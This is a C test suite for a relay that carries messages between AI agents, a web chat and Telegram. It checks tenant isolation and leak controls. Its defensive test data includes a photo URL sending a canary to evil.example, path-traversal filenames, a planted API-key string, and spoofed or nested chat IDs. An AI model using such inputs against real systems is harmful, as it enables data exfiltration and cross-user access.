/* SPDX-License-Identifier: Apache-2.0 */
/* The conversation end to end, with a played agent, api and messenger. */
#include "conv_world.h"

static struct world W;

static int setup(void **state)
{
	(void)state;
	world_init(&W);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	world_done(&W);
	return 0;
}

static char *web_session(struct world *w, int no)
{
	static char session[2][128];
	char *out = session[no & 1];
	json_t *inv = call(w, "invite.new", 200, "{\"no\":%d,\"channel\":\"web\",\"ttl_s\":60}", no), *use;

	use = call(w, "invite.use", 200, "{\"channel\":\"web\",\"code\":\"%s\"}",
		   json_string_value(json_object_get(inv, "code")));
	assert_int_equal(json_integer_value(json_object_get(use, "no")), no);
	(void)snprintf(out, 128, "%s", json_string_value(json_object_get(use, "session")));
	json_decref(call(w, "invite.use", 403, "{\"channel\":\"web\",\"code\":\"%s\"}",
			 json_string_value(json_object_get(inv, "code"))));
	json_decref(inv);
	json_decref(use);
	return out;
}

static void a_message_of_the_page_reaches_the_agent_and_the_answer_comes_back(void **state)
{
	struct ask poll, send;
	json_t *doc, *list;
	char *s;

	(void)state;
	s = web_session(&W, 1);
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":30,\"allowed_updates\":[\"message\"]}");
	assert_false(poll.answered);
	assert_int_equal(W.ready, 1);
	json_decref(call(&W, "web.send", 200, "{\"session\":\"%s\",\"text\":\"hello you\",\"client_id\":\"c1\"}", s));
	assert_true(poll.answered);
	assert_non_null(strstr(poll.text, "\"update_id\":1,\"message\":{\"message_id\":1,"));
	assert_non_null(strstr(poll.text, "\"text\":\"hello you\""));
	assert_non_null(strstr(poll.text, "\"chat\":{\"id\":1001,"));
	/* the same again is the same message */
	doc = call(&W, "web.send", 200, "{\"session\":\"%s\",\"text\":\"hello you\",\"client_id\":\"c1\"}", s);
	assert_int_equal(json_integer_value(json_object_get(doc, "message_id")), 1);
	json_decref(doc);
	ask_json(&W, &send, 1, "sendMessage",
		 "{\"chat_id\":\"1001\",\"text\":\"<b>hi</b> &amp; <a href=\\\"https://x.y/\\\">there</a>\",\"parse_mode\":\"HTML\"}");
	assert_true(send.answered);
	assert_int_equal(send.status, 200);
	assert_non_null(strstr(send.text, "\"message_id\":2"));
	doc = call(&W, "web.history", 200, "{\"session\":\"%s\",\"after\":0,\"limit\":10}", s);
	list = json_object_get(doc, "messages");
	assert_int_equal(json_array_size(list), 2);
	assert_string_equal(json_string_value(json_object_get(json_array_get(list, 0), "state")), "waiting");
	assert_string_equal(json_string_value(json_object_get(json_array_get(list, 1), "text")), "hi & there");
	assert_string_equal(json_string_value(json_object_get(json_array_get(list, 1), "from")), "agent");
	json_decref(doc);
	/* confirmed by the next poll's offset */
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0,\"offset\":2}");
	assert_string_equal(poll.text, "{\"ok\":true,\"result\":[]}");
	doc = call(&W, "chat.history", 200, "{\"no\":1}");
	list = json_object_get(doc, "messages");
	assert_string_equal(json_string_value(json_object_get(json_array_get(list, 0), "state")), "delivered");
	json_decref(doc);
}

static void one_tenants_session_and_words_are_not_the_others(void **state)
{
	struct ask poll;
	json_t *doc;
	char *a, *b;

	(void)state;
	a = web_session(&W, 1);
	b = web_session(&W, 2);
	json_decref(call(&W, "web.send", 200, "{\"session\":\"%s\",\"text\":\"alices words\"}", a));
	doc = call(&W, "web.history", 200, "{\"session\":\"%s\"}", b);
	assert_int_equal(json_array_size(json_object_get(doc, "messages")), 0);
	json_decref(doc);
	ask_json(&W, &poll, 2, "getUpdates", "{\"timeout\":0}");
	assert_string_equal(poll.text, "{\"ok\":true,\"result\":[]}");
	json_decref(call(&W, "web.history", 401, "{\"session\":\"%s\"}", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"));
}

static void bad_texts_of_the_page_are_refused_with_words(void **state)
{
	char big[4200];
	char *s;

	(void)state;
	s = web_session(&W, 1);
	memset(big, 'x', sizeof(big));
	big[4097] = '\0';
	json_decref(call(&W, "web.send", 413, "{\"session\":\"%s\",\"text\":\"%s\"}", s, big));
	big[4096] = '\0';
	json_decref(call(&W, "web.send", 200, "{\"session\":\"%s\",\"text\":\"%s\"}", s, big));
	json_decref(call(&W, "web.send", 422, "{\"session\":\"%s\",\"text\":\" \\n\"}", s));
	json_decref(call(&W, "web.send", 422, "{\"session\":\"%s\",\"text\":\"\xff\xfe\"}", s));
	json_decref(call(&W, "web.send", 422, "{\"session\":\"%s\",\"text\":\"a\",\"text\":\"b\"}", s));
}

static void a_message_to_a_sleeping_agent_wakes_it_and_waits(void **state)
{
	struct ask poll;
	char *s;

	(void)state;
	s = web_session(&W, 1);
	json_decref(call(&W, "web.send", 200, "{\"session\":\"%s\",\"text\":\"good morning\"}", s));
	assert_int_equal(W.wakes, 1);
	conv_tenant_listen(W.conv, 1);
	conv_tenant_state(W.conv, 1, TENANT_RUNNING, SPAN(""));
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0,\"limit\":100}");
	assert_int_equal(W.ready, 1);
	assert_non_null(strstr(poll.text, "good morning"));
}

static void an_unconfirmed_update_comes_again_after_a_crash(void **state)
{
	struct ask poll;
	char *s;

	(void)state;
	s = web_session(&W, 1);
	json_decref(call(&W, "web.send", 200, "{\"session\":\"%s\",\"text\":\"keep me\"}", s));
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0}");
	assert_non_null(strstr(poll.text, "keep me"));
	conv_free(W.conv);
	world_open(&W);
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0}");
	assert_non_null(strstr(poll.text, "keep me"));
	json_decref(call(&W, "web.history", 200, "{\"session\":\"%s\"}", s));
}

static void a_second_poll_ends_the_first(void **state)
{
	struct ask one, two;

	(void)state;
	ask_json(&W, &one, 1, "getUpdates", "{\"timeout\":30}");
	ask_json(&W, &two, 1, "getUpdates", "{\"timeout\":30}");
	assert_int_equal(one.status, 409);
	assert_false(two.answered);
	conv_gone(W.conv, &two.r);
}

static void telegram_binds_by_a_one_time_code_and_carries_both_ways(void **state)
{
	struct ask poll, send;
	json_t *doc;

	(void)state;
	telegram(&W);
	doc = call(&W, "invite.new", 200, "{\"no\":1,\"channel\":\"telegram\"}");
	assert_non_null(strstr(json_string_value(json_object_get(doc, "url")), "https://t.me/house_bot?start="));
	json_decref(doc);
	bind_chat(&W, 1, 555, 10);
	assert_non_null(strstr(W.sent, "connected to your assistant"));
	says(&W, 555, 11, "are you there");
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0}");
	assert_non_null(strstr(poll.text, "are you there"));
	assert_null(strstr(poll.text, "555"));
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"yes <i>I</i> am\",\"parse_mode\":\"HTML\"}");
	assert_false(send.answered);
	spin(&W, 40);
	assert_true(send.answered);
	assert_int_equal(send.status, 200);
	assert_string_equal(W.sent_path, "/sendMessage");
	assert_non_null(strstr(W.sent, "\"chat_id\":555"));
	assert_non_null(strstr(W.sent, "\"text\":\"yes I am\""));
	assert_non_null(strstr(W.sent, "\"entities\":[{\"type\":\"italic\",\"offset\":4,\"length\":1}]"));
	assert_non_null(strstr(W.sent, "\"link_preview_options\":{\"is_disabled\":true}"));
	assert_null(strstr(send.text, "555"));
	assert_null(strstr(send.text, "9000"));
	doc = call(&W, "bindings", 200, "{\"no\":1}");
	assert_int_equal(json_array_size(json_object_get(doc, "bindings")), 1);
	json_decref(doc);
}

static void a_stranger_gets_one_polite_sentence_and_reaches_no_agent(void **state)
{
	struct ask poll;
	size_t n;

	(void)state;
	telegram(&W);
	says(&W, 777, 1, "hello");
	assert_non_null(strstr(W.sent, "This assistant is private"));
	n = W.nsent;
	says(&W, 777, 2, "hello again");
	assert_int_equal(W.nsent, n);
	says(&W, 778, 3, "/start aaaaaaaaaaaaaaaaaaaaaaaaaa");
	assert_non_null(strstr(W.sent, "not valid"));
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0}");
	assert_string_equal(poll.text, "{\"ok\":true,\"result\":[]}");
	assert_int_equal(W.wakes, 0);
}

static void a_chat_of_one_tenant_cannot_be_taken_by_another(void **state)
{
	struct ask poll;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	bind_chat(&W, 2, 555, 2);
	assert_non_null(strstr(W.sent, "belongs to another assistant"));
	says(&W, 555, 3, "still alice");
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0}");
	assert_non_null(strstr(poll.text, "still alice"));
	ask_json(&W, &poll, 2, "getUpdates", "{\"timeout\":0}");
	assert_null(strstr(poll.text, "still alice"));
}

static void an_unbound_address_gets_nothing_more_not_even_what_was_queued(void **state)
{
	struct ask send;
	size_t n;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	says(&W, 555, 2, "hi");
	spin(&W, 10);
	n = W.nsent;
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"late\"}");
	json_decref(call(&W, "binding.rm", 200, "{\"no\":1,\"channel\":\"telegram\",\"address\":\"555\"}"));
	spin(&W, 40);
	assert_int_equal(W.nsent, n);
	assert_int_equal(send.status, 403);
}

static void the_messengers_answers_become_the_agents(void **state)
{
	struct ask send;
	size_t n;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	spin(&W, 10);
	W.next_status = 403;
	W.next_body = "{\"ok\":false,\"error_code\":403,\"description\":\"Forbidden: bot was blocked by the user\"}";
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"one\"}");
	spin(&W, 40);
	assert_int_equal(send.status, 403);
	assert_non_null(strstr(send.text, "blocked"));
	/* 429: waits as long as it says, then sends once */
	W.next_status = 429;
	W.next_body = "{\"ok\":false,\"error_code\":429,\"description\":\"Too Many Requests\",\"parameters\":{\"retry_after\":1}}";
	n = W.nsent;
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"two\"}");
	spin(&W, 1100);
	assert_false(send.answered);
	assert_int_equal(W.nsent, n + 1);
	spin(&W, 1300);
	assert_int_equal(send.status, 200);
	assert_int_equal(W.nsent, n + 2);
	/* 500: said to the agent, not tried again by us */
	spin(&W, 1000);
	W.next_status = 500;
	W.next_body = "{\"ok\":false,\"error_code\":500,\"description\":\"Internal\"}";
	n = W.nsent;
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"three\"}");
	spin(&W, 1300);
	assert_int_equal(send.status, 502);
	assert_int_equal(W.nsent, n + 1);
}

static json_t *last_message(struct world *w)
{
	json_t *doc = call(w, "chat.history", 200, "{\"no\":1,\"limit\":50}");
	json_t *list = json_object_get(doc, "messages"), *m;

	m = json_incref(json_array_get(list, json_array_size(list) - 1));
	json_decref(doc);
	return m;
}

static void a_message_whose_fate_is_unknown_after_a_crash_is_marked_and_never_sent_again(void **state)
{
	struct ask send, later;
	json_t *m;
	size_t n;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	spin(&W, 10);
	W.hold_sends = true;
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"in the air\"}");
	ask_json(&W, &later, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"still here\"}");
	spin(&W, 20);
	n = W.nsent;
	assert_non_null(strstr(W.sent, "in the air"));
	/* the store as a crash leaves it: a copy, while the first is under way */
	{
		char to[128];
		struct cl_err err;
		CL_BUF struct buf b = { 0 };
		static const char *const names[] = { "conversation.db", "conversation.db-wal" };

		for (size_t i = 0; i < 2; i++) {
			b = (struct buf){ 0 };
			buf_init(&b, 64 << 20);
			assert_int_equal(cl_read_file(W.dirfd, names[i], &b, &err), 0);
			(void)snprintf(to, sizeof(to), "crashed%s", i ? ".db-wal" : ".db");
			assert_int_equal(cl_write_file(W.dirfd, to, 0600, buf_span(&b), &err), 0);
			buf_done(&b);
		}
	}
	conv_gone(W.conv, &send.r);
	conv_gone(W.conv, &later.r);
	conv_free(W.conv);
	W.hold_sends = false;
	(void)snprintf(W.db, sizeof(W.db), "%s/crashed.db", W.dir);
	world_open(&W);
	telegram(&W);
	spin(&W, 1200);
	assert_int_equal(W.nsent, n + 1);
	assert_non_null(strstr(W.sent, "still here"));
	m = last_message(&W);
	assert_string_equal(json_string_value(json_object_get(m, "state")), "sent");
	json_decref(m);
	{
		json_t *doc = call(&W, "chat.history", 200, "{\"no\":1,\"limit\":50}");
		char *all = json_dumps(doc, 0);

		assert_non_null(strstr(all, "\"in the air\""));
		assert_non_null(strstr(all, "\"unknown\""));
		free(all);
		json_decref(doc);
	}
}

static void an_answer_that_got_lost_is_unknown_not_repeated(void **state)
{
	struct ask send;
	json_t *m;
	size_t n;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	spin(&W, 10);
	n = W.nsent;
	W.next_lost = true;
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"who knows\"}");
	spin(&W, 1500);
	assert_int_equal(send.status, 502);
	assert_int_equal(W.nsent, n + 1);
	m = last_message(&W);
	assert_string_equal(json_string_value(json_object_get(m, "state")), "unknown");
	json_decref(m);
}

static void a_secret_in_the_text_is_stopped_and_the_owner_told(void **state)
{
	struct ask send;
	json_t *m;

	(void)state;
	W.secret = "sk-live-123456";
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"the key is sk-live-123456\"}");
	assert_int_equal(send.status, 403);
	assert_string_equal(W.last_rule, "conversation.leak");
	m = last_message(&W);
	assert_true(json_is_true(json_object_get(m, "notice")));
	assert_null(strstr(json_string_value(json_object_get(m, "text")), "sk-live"));
	json_decref(m);
	/* in two halves */
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"first sk-live-\"}");
	assert_int_equal(send.status, 200);
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"123456 second\"}");
	assert_int_equal(send.status, 403);
}

static void a_picture_is_stored_encrypted_and_only_its_tenant_gets_it(void **state)
{
	static const char body[] = "--b\r\nContent-Disposition: form-data; name=\"chat_id\"\r\n\r\n1001\r\n"
		"--b\r\nContent-Disposition: form-data; name=\"photo\"\r\n\r\nattach://x1\r\n"
		"--b\r\nContent-Disposition: form-data; name=\"x1\"; filename=\"../../a b.jpg\"\r\n"
		"Content-Type: image/jpeg\r\n\r\nJPEGBYTES-of-alice\r\n--b--\r\n";
	struct ask send, get;
	char handle[40], target[200];
	const char *at;
	CL_BUF struct buf raw = { 0 };
	struct cl_err err;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	spin(&W, 10);
	ask(&W, &send, 1, "sendPhoto", "multipart/form-data; boundary=b", span_str(body));
	spin(&W, 40);
	assert_int_equal(send.status, 200);
	assert_string_equal(W.sent_path, "/sendPhoto");
	assert_non_null(strstr(W.sent, "JPEGBYTES-of-alice"));
	assert_non_null(strstr(W.sent, "filename=\"a b.jpg\""));
	at = strstr(send.text, "\"file_id\":\"");
	assert_non_null(at);
	(void)snprintf(handle, sizeof(handle), "%.32s", at + 11);
	(void)snprintf(target, sizeof(target), "getFile?file_id=%s", handle);
	ask(&W, &get, 2, target, NULL, SPAN(""));
	assert_int_equal(get.status, 400);
	ask(&W, &get, 1, target, NULL, SPAN(""));
	assert_int_equal(get.status, 200);
	assert_null(strstr(get.text, "good"));
	/* the page gets it by descriptor, its neighbour's page does not */
	{
		char bytes[64] = "";

		json_decref(call(&W, "chat.media", 200, "{\"no\":1,\"handle\":\"%s\"}", handle));
		assert_int_equal(pread(W.call_fd, bytes, sizeof(bytes), 0), 18);
		assert_string_equal(bytes, "JPEGBYTES-of-alice");
		assert_int_equal(pwrite(W.call_fd, "x", 1, 0), -1);
		json_decref(call(&W, "chat.media", 404, "{\"no\":2,\"handle\":\"%s\"}", handle));
		json_decref(call(&W, "web.media", 401, "{\"session\":\"x\",\"handle\":\"%s\"}", handle));
		json_decref(call(&W, "chat.media", 404, "{\"no\":1,\"handle\":\"../conversation.db\"}"));
	}
	/* the file itself, and that it does not lie there in the clear */
	{
		struct ask f = { 0 };
		char path[200], name[80];

		(void)snprintf(path, sizeof(path), "/telegram/file/bot" TOKEN "/files/%s.jpg", handle);
		f.r.method = SPAN("GET");
		f.r.path = span_str(path);
		conv_request(W.conv, &f.r, 2);
		assert_int_equal(f.status, 404);
		f.answered = false;
		conv_request(W.conv, &f.r, 1);
		assert_int_equal(f.status, 200);
		assert_string_equal(f.text, "JPEGBYTES-of-alice");
		(void)snprintf(name, sizeof(name), "media/%s", handle);
		buf_init(&raw, 1 << 20);
		assert_int_equal(cl_read_file(W.dirfd, name, &raw, &err), 0);
		assert_null(memmem(raw.p, raw.n, "JPEGBYTES", 9));
		assert_int_equal(conv_tenant_rm(W.conv, 1, &err), 0);
		assert_int_not_equal(faccessat(W.dirfd, name, F_OK, 0), 0);
	}
}

static void media_by_address_is_refused(void **state)
{
	struct ask send;

	(void)state;
	ask_json(&W, &send, 1, "sendPhoto", "{\"chat_id\":1001,\"photo\":\"https://evil.example/?d=CANARY\"}");
	assert_int_equal(send.status, 403);
	assert_string_equal(W.last_rule, "conversation.media_url");
	ask_json(&W, &send, 1, "sendMediaGroup",
		 "{\"chat_id\":1001,\"media\":[{\"type\":\"photo\",\"media\":\"https://evil.example/x\"}]}");
	assert_int_equal(send.status, 403);
}

static void a_voice_note_of_the_person_is_fetched_when_the_agent_asks(void **state)
{
	struct ask poll, get;
	struct fake_fetch *k;
	const char *at;
	char target[100];

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	updates(&W, "{\"update_id\":2,\"message\":{\"message_id\":2,\"from\":{\"id\":555,\"first_name\":\"P\"},\"chat\":{\"id\":555,"
		    "\"type\":\"private\"},\"date\":1,\"voice\":{\"file_id\":\"UPSTREAM1\",\"duration\":3,\"mime_type\":\"audio/ogg\","
		    "\"file_size\":5}}}");
	ask_json(&W, &poll, 1, "getUpdates", "{\"timeout\":0}");
	assert_null(strstr(poll.text, "UPSTREAM1"));
	at = strstr(poll.text, "\"voice\":{\"file_id\":\"");
	assert_non_null(at);
	(void)snprintf(target, sizeof(target), "getFile?file_id=%.32s", at + 20);
	W.hold_sends = true;
	ask(&W, &get, 1, target, NULL, SPAN(""));
	k = open_call(&W, "/getFile");
	assert_non_null(k);
	assert_string_equal(k->body, "{\"file_id\":\"UPSTREAM1\"}");
	answer(k, 200, true, "{\"ok\":true,\"result\":{\"file_path\":\"voice/file_1.oga\"}}");
	k = open_call(&W, "/voice/file_1.oga");
	assert_non_null(k);
	answer(k, 200, true, "OGGS!");
	assert_int_equal(get.status, 200);
	assert_non_null(strstr(get.text, "\"file_path\":\"files/"));
}

static void edits_and_deletes_reach_the_messenger_under_its_own_ids(void **state)
{
	struct ask send, edit;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	spin(&W, 10);
	ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"one\"}");
	spin(&W, 20);
	assert_int_equal(send.status, 200);
	ask_json(&W, &edit, 1, "editMessageText", "{\"chat_id\":1001,\"message_id\":1,\"text\":\"uno\"}");
	spin(&W, 1100);
	assert_int_equal(edit.status, 200);
	assert_string_equal(W.sent_path, "/editMessageText");
	assert_non_null(strstr(W.sent, "\"chat_id\":555,\"message_id\":900"));
	ask_json(&W, &edit, 1, "editMessageText", "{\"chat_id\":1001,\"message_id\":1,\"text\":\"uno\"}");
	assert_int_equal(edit.status, 400);
	assert_non_null(strstr(edit.text, "not modified"));
	ask_json(&W, &edit, 2, "editMessageText", "{\"chat_id\":1001,\"message_id\":1,\"text\":\"bob\"}");
	assert_int_equal(edit.status, 400);
	ask_json(&W, &edit, 1, "deleteMessage", "{\"chat_id\":1001,\"message_id\":1}");
	spin(&W, 1100);
	assert_string_equal(edit.text, "{\"ok\":true,\"result\":true}");
	assert_string_equal(W.sent_path, "/deleteMessage");
}

static void an_agent_that_talks_without_end_is_slowed_down(void **state)
{
	struct ask send = { 0 };
	int said = 0;

	(void)state;
	for (int i = 0; i < 200; i++) {
		ask_json(&W, &send, 1, "sendMessage", "{\"chat_id\":1001,\"text\":\"bla\"}");
		said += send.status == 200;
	}
	assert_in_range(said, 60, 70);
	assert_int_equal(send.status, 429);
	assert_non_null(strstr(send.text, "\"retry_after\":5"));
	/* and its neighbour is not */
	ask_json(&W, &send, 2, "sendMessage", "{\"chat_id\":1001,\"text\":\"bla\"}");
	assert_int_equal(send.status, 200);
}

static void only_a_few_large_bodies_are_held_at_once(void **state)
{
	struct ask a[5];
	uint64_t max = 0;

	(void)state;
	for (int i = 0; i < 5; i++) {
		a[i] = (struct ask){ .r = { .method = SPAN("POST"), .path = SPAN("/telegram/bot" TOKEN "/sendDocument"),
					    .content_length = i == 4 ? 100 : UINT64_MAX } };
		if (i == 3)
			assert_int_equal(conv_head(W.conv, &a[i].r, 1, &max), HTTPD_DONE);
		else
			assert_int_equal(conv_head(W.conv, &a[i].r, 1, &max), HTTPD_BUFFER);
	}
	assert_int_equal(a[3].status, 429);
	conv_gone(W.conv, &a[0].r);	/* one left before its body was there */
	a[3] = (struct ask){ .r = { .method = SPAN("POST"), .path = SPAN("/telegram/bot" TOKEN "/sendDocument"),
				    .content_length = 5000000 } };
	assert_int_equal(conv_head(W.conv, &a[3].r, 1, &max), HTTPD_BUFFER);
	assert_true(max > 20000000);
	for (int i = 1; i < 5; i++) {
		conv_request(W.conv, &a[i].r, 1);
		assert_int_equal(a[i].status, 400);
	}
}

static void what_waits_for_an_agent_has_a_limit_that_the_person_is_told(void **state)
{
	(void)state;
	for (int i = 0; i < 500; i++)
		json_decref(call(&W, "chat.send", 200, "{\"no\":1,\"text\":\"x\"}"));
	json_decref(call(&W, "chat.send", 429, "{\"no\":1,\"text\":\"x\"}"));
	json_decref(call(&W, "chat.send", 200, "{\"no\":2,\"text\":\"x\"}"));
}

static void a_wrong_bot_token_is_told_to_the_operator(void **state)
{
	struct fake_fetch *k;

	(void)state;
	json_decref(call(&W, "channel.put", 200, "{\"name\":\"telegram\",\"kind\":\"telegram\","
			 "\"api_root\":\"http://127.0.0.1:1\",\"secret\":\"telegram\"}"));
	k = open_call(&W, "/getMe");
	assert_non_null(k);
	answer(k, 401, true, "{\"ok\":false,\"error_code\":401,\"description\":\"Unauthorized\"}");
	assert_int_equal(W.alerts, 1);
	conv_secret_changed(W.conv, "telegram");
	spin(&W, 6);
	assert_non_null(open_call(&W, "/getUpdates"));
}

static void a_wrong_token_of_a_sandbox_is_refused_and_recorded(void **state)
{
	struct ask a = { 0 };
	uint64_t max;

	(void)state;
	a.r.method = SPAN("POST");
	a.r.path = SPAN("/telegram/bot8377:other/getMe");
	assert_int_equal(conv_head(W.conv, &a.r, 1, &max), HTTPD_DONE);
	assert_int_equal(a.status, 401);
	assert_string_equal(W.last_rule, "conversation.token");
}

/* ---- every method, every field that can name a chat, every way to say it ------------------ */

enum way { IN_QUERY, IN_FORM, IN_JSON, IN_MULTIPART, IN_BOTH, TWICE_FORM, TWICE_MULTIPART, WAYS };

static const char *value_for(const struct method_field *f, const char *chat)
{
	switch (f->kind) {
	case FK_CHAT:
	case FK_USER:
		return chat;
	case FK_INT:
		return "1";
	case FK_BOOL:
		return "true";
	case FK_FLOAT:
		return "1.5";
	case FK_REPLY:
	case FK_MARKUP:
	case FK_JSON:
		return "[]";
	case FK_DENY:
	case FK_IGN:
	case FK_STR:
	case FK_FILE:
		break;
	}
	return "x";
}

static void add_pair(struct buf *b, enum way way, const char *name, const char *value, bool json_number)
{
	if (way == IN_JSON)
		(void)buf_printf(b, json_number ? "%s\"%s\":%s" : "%s\"%s\":\"%s\"", b->n > 1 ? "," : "", name, value);
	else if (way == IN_MULTIPART || way == TWICE_MULTIPART)
		(void)buf_printf(b, "--b\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n", name, value);
	else
		(void)buf_printf(b, "%s%s=%s", b->n ? "&" : "", name, value);
}

/* attack - one request with @foreign in @field; everything else is right */
static void attack(const struct method *m, const struct method_field *field, const char *foreign, enum way way)
{
	CL_BUF struct buf b = { 0 };
	bool twice = way == TWICE_FORM || way == TWICE_MULTIPART;
	bool plain_number = foreign[0] && strspn(foreign, "-0123456789") == strlen(foreign) && foreign[0] != '0';
	char target[8192];
	struct ask a;

	buf_init(&b, 65536);
	if (way == IN_JSON)
		(void)buf_add_ch(&b, '{');
	for (size_t i = 0; i < m->nfields; i++) {
		const struct method_field *f = &m->fields[i];

		if (f == field) {
			if (twice || way == IN_BOTH)
				add_pair(&b, way, f->name, "1001", false);
			if (way != IN_BOTH)
				add_pair(&b, way, f->name, foreign, plain_number);
		} else if (f->required) {
			add_pair(&b, way, f->name, value_for(f, "1001"), f->kind == FK_JSON || f->kind == FK_INT);
		}
	}
	if (way == IN_JSON)
		(void)buf_add_ch(&b, '}');
	if (way == IN_MULTIPART || way == TWICE_MULTIPART)
		(void)buf_add_str(&b, "--b--\r\n");
	(void)buf_add_ch(&b, '\0');
	b.n--;
	if (way == IN_QUERY)
		(void)snprintf(target, sizeof(target), "%s?%s", m->name, b.p);
	else if (way == IN_BOTH)
		(void)snprintf(target, sizeof(target), "%s?%s=%s", m->name, field->name, foreign);
	else
		(void)snprintf(target, sizeof(target), "%s", m->name);
	ask(&W, &a, 1, target, way == IN_JSON ? "application/json" : way == IN_MULTIPART || way == TWICE_MULTIPART ?
	    "multipart/form-data; boundary=b" : "application/x-www-form-urlencoded",
	    way == IN_QUERY ? (struct span){ 0 } : buf_span(&b));
	if (!a.answered || a.status < 400)
		fail_msg("%s %s=%s way %d passed: %s", m->name, field->name, foreign, way, a.text);
	/* and it was refused for this field, not for something else */
	for (size_t i = 0; i < m->nfields; i++)
		if (m->fields[i].required && m->fields[i].kind == FK_DENY)
			return;	/* it cannot even be asked without naming a place outside */
	if (way <= IN_MULTIPART && field->kind != FK_DENY &&
	    (a.status != 403 || strcmp(W.last_rule, "conversation.recipient") != 0 || !strstr(a.text, field->name)))
		fail_msg("%s %s=%s way %d: not for its recipient: %s", m->name, field->name, foreign, way, a.text);
}

/* the same requests with one's own chat pass the reader: the test below can fail */
static void one_s_own_chat_passes_every_reader(void **state)
{
	struct param_refusal why;
	size_t n = 0;

	(void)state;
	for (size_t i = 0; i < nmethods; i++) {
		CL_BUF struct buf b = { 0 };
		struct params p;

		buf_init(&b, 65536);
		for (size_t k = 0; k < methods[i].nfields; k++)
			if (methods[i].fields[k].required || methods[i].fields[k].kind == FK_CHAT)
				add_pair(&b, IN_FORM, methods[i].fields[k].name, value_for(&methods[i].fields[k], "1001"), false);
		if (params_read(&p, &methods[i], SPAN("application/x-www-form-urlencoded"), (struct span){ 0 },
				buf_span(&b), &why)) {
			bool denied = why.rule && !strcmp(why.rule, "conversation.field");

			if (!denied)	/* a method that cannot do without a place outside */
				fail_msg("%s: %s", methods[i].name, why.reason);
			continue;
		}
		params_done(&p);
		n++;
	}
	assert_true(n > 120);
}

static void no_method_takes_a_foreign_chat_in_any_field_however_it_is_said(void **state)
{
	static const char *const ids[] = { "999888", "-1001", "-1001001001001", "@someone", "1001x", "01001", "%2B1001",
					   "1001.0", "1.001e3", "%EF%BC%91001", "1001%20", "" };
	size_t tried = 0, n;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	spin(&W, 10);
	n = W.nsent;
	for (size_t i = 0; i < nmethods; i++)
		for (size_t k = 0; k < methods[i].nfields; k++) {
			const struct method_field *f = &methods[i].fields[k];

			if (f->kind != FK_CHAT && f->kind != FK_USER && f->kind != FK_DENY)
				continue;
			for (int way = 0; way < WAYS; way++)
				for (size_t v = 0; v < CL_ARRAY_LEN(ids); v++) {
					attack(&methods[i], f, ids[v], (enum way)way);
					tried++;
				}
		}
	spin(&W, 60);
	assert_int_equal(W.nsent, n);
	assert_true(tried > 10000);
	print_message("%zu attempts\n", tried);
}

static void nested_ids_are_refused_in_every_document(void **state)
{
	static const char *const docs[] = {
		"{\"chat_id\":1001,\"text\":\"x\",\"reply_parameters\":{\"message_id\":1,\"chat_id\":999}}",
		"{\"chat_id\":1001,\"text\":\"x\",\"reply_parameters\":\"{\\\"message_id\\\":1,\\\"chat_id\\\":\\\"@x\\\"}\"}",
		"{\"chat_id\":1001,\"text\":\"x\",\"link_preview_options\":{\"chat_id\":999}}",
		"{\"chat_id\":1001,\"text\":\"x\",\"entities\":[{\"type\":\"text_mention\",\"offset\":0,\"length\":1,\"user\":{\"id\":999}}]}",
		"{\"chat_id\":1001,\"text\":\"x\",\"reply_markup\":{\"inline_keyboard\":[[{\"text\":\"a\",\"x\":{\"user_id\":5}}]]}}",
		"{\"chat_id\":[1001],\"text\":\"x\"}", "{\"chat_id\":{\"id\":1001},\"text\":\"x\"}",
		"{\"chat_id\":1001,\"chat_id\":999,\"text\":\"x\"}", "{\"chat_id\":1001,\"Chat_id\":999,\"text\":\"x\"}",
		"{\"chat_id\":true,\"text\":\"x\"}", "{\"chat_id\":null,\"text\":\"x\"}", "{\"chat_\\u0069d\":999,\"text\":\"x\"}",
		"{\"chat_id\":1001.0,\"text\":\"x\"}", "{\"chat_id\":\"1001\\u0020\",\"text\":\"x\"}", "[1]", "{", "",
	};
	size_t n;

	(void)state;
	telegram(&W);
	bind_chat(&W, 1, 555, 1);
	spin(&W, 10);
	n = W.nsent;
	for (size_t i = 0; i < CL_ARRAY_LEN(docs); i++) {
		struct ask a;

		ask_json(&W, &a, 1, "sendMessage", docs[i]);
		if (!a.answered || a.status < 400)
			fail_msg("passed: %s", docs[i]);
	}
	spin(&W, 60);
	assert_int_equal(W.nsent, n);
}

#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
int main(void)
{
